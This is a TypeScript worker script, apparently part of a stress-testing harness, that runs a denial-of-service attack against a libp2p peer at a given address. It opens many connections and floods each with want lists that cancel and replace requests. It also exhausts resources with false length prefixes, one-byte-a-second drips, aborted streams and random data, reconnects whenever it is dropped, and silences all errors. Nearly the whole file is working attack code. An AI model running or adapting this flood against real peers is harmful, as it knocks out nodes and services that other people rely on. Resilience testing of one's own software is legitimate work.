// Run as a process by campaign.ts: connects many times to the address that it is given, each time as somebody else, and on each
// connection asks for what is not there, cancels it, replaces it, and wastes what a stream costs, until all is sent. Bounded in
// bytes a second, as a line would be. Whoever is thrown out comes back.
import { setPriority } from 'node:os'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Connection, Libp2p, Stream } from '@libp2p/interface'
import { multiaddr } from '@multiformats/multiaddr'
import { frame, openPlain, PROTOCOL } from '../libp2p-node.ts'
import { Flood } from './flood.ts'

const [address = '', connections = '10', wants = '10000', bytesPerSecond = '125000000'] = process.argv.slice(2)
const NICENESS = 10
const RETRY_MS = 250
const SMALL_LIST = 1000
const LARGE_LIST = 16_000
const STREAMS_WASTED = 16
const start = performance.now()
let [bytesSent, refusals] = [0, 0]

setPriority(NICENESS)
process.on('uncaughtException', () => undefined)
process.on('unhandledRejection', () => undefined)
const nodes: Libp2p[] = []
for (let index = 0; index < Number(connections); index++) {
  const node = await openPlain()
  await node.dial(multiaddr(address))
  nodes.push(node)
}
process.stdout.write('connected\n')
await Promise.all(nodes.map((node, index) => attack(node, index)))
process.stdout.write(`${JSON.stringify({ bytesSent, refusals })}\n`)
setInterval(() => undefined, 1000)

async function attack(node: Libp2p, index: number): Promise<void> {
  const flood = new Flood(index % 2 === 0 ? SMALL_LIST : LARGE_LIST)
  for (let sent = 0; sent < Number(wants);) {
    try {
      const connection = await node.dial(multiaddr(address))
      void waste(connection, index)
      const stream = await connection.newStream(PROTOCOL)
      for (; sent < Number(wants); sent += flood.entries) {
        // One in four replaces all, one in four cancels what was asked before it.
        const turn = Math.floor(sent / flood.entries) % 4
        await send(stream, flood.next({ cancel: turn === 1, full: turn === 3 }))
      }
    } catch {
      refusals++
      await sleep(RETRY_MS)
    }
  }
}

/** All that costs more than it looks, one kind a connection, for as long as that is open. */
async function waste(connection: Connection, index: number): Promise<void> {
  try {
    while (connection.status === 'open') {
      for (let count = 0; count < STREAMS_WASTED; count++) await wasteStream(connection, index % 5)
      await sleep(1000)
    }
  } catch {
    // Thrown out, or no more streams.
  }
}

async function wasteStream(connection: Connection, kind: number): Promise<void> {
  const stream = await connection.newStream(PROTOCOL)
  if (kind === 0) await send(stream, new Uint8Array(10), 5 << 20)
  else if (kind === 1) void drip(stream)
  else if (kind === 2) stream.abort(new Error('enough'))
  else if (kind === 3) await send(stream, crypto.getRandomValues(new Uint8Array(1000)))
  else await send(stream, new Uint8Array(100_000), 4 << 20)
}

/** A promise of 4 MiB, and a byte a second. */
async function drip(stream: Stream): Promise<void> {
  try {
    stream.send(frame(new Uint8Array(1), 4 << 20))
    for (;;) {
      await sleep(1000)
      stream.send(new Uint8Array(1))
    }
  } catch {
    // Closed.
  }
}

async function send(stream: Stream, message: Uint8Array, length = message.length): Promise<void> {
  while (stream.writableNeedsDrain) {
    if (stream.status !== 'open') throw new Error('closed')
    await sleep(5)
  }
  bytesSent += message.length
  const dueMs = start + (bytesSent / Number(bytesPerSecond)) * 1000 - performance.now()
  if (dueMs > 1) await sleep(dueMs)
  stream.send(frame(message, length))
}
